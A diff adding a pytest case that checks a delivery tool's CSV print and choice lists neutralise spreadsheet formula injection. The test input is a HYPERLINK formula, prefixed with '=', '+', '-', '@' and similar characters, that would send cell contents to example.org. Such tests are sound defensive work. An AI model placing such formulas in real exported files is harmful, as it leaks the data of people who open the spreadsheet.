@@ -1,5 +1,8 @@
 """The lists that a delivery leaves: read again by `voute letters`, and refused when they are not what was written."""
 
+import csv
+import io
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -58,6 +61,21 @@ def test_print_list_lists_are_moved_once_and_again(tmp_path: Path) -> None:
         path.unlink()
     assert move_lists(spool, folder, "d1") == moved
     assert moved.print_list.read_bytes() == before
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "'", "'="])
+def test_print_list_gives_a_spreadsheet_no_formula_and_reads_the_same_rows_back(tmp_path: Path, start: str) -> None:
+    evil = f'{start}HYPERLINK("https://example.org/?"&A1)'
+    bad = [replace(row(line), reference=evil, name=evil, address=evil, title=evil, file_name=evil) for line in (2, 3)]
+    bad[1] = replace(bad[1], party="q")
+    lists = write_lists(tmp_path, "d1", [Placed(bad[0], CHOSEN), Placed(bad[1], NOT_CHOSEN)])
+    for path in (lists.print_list, lists.choices):
+        cells = [cell for line in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""), delimiter=";") for cell in line]
+        assert sum(evil in cell for cell in cells) == 5
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    read = DeliveredLists(tmp_path)
+    assert [read.avoids(one) for one in (*bad, row(2))] == [True, False, False]
+    assert [read.reason(one) for one in bad] == [(Reason.CHOSEN, "2026-02-03T15:42:07Z"), (Reason.NOT_CHOSEN, "")]
 
 
 @pytest.mark.parametrize("change", [b"", b"line;channel\r\n", b"\xff\xfe", b"x"])
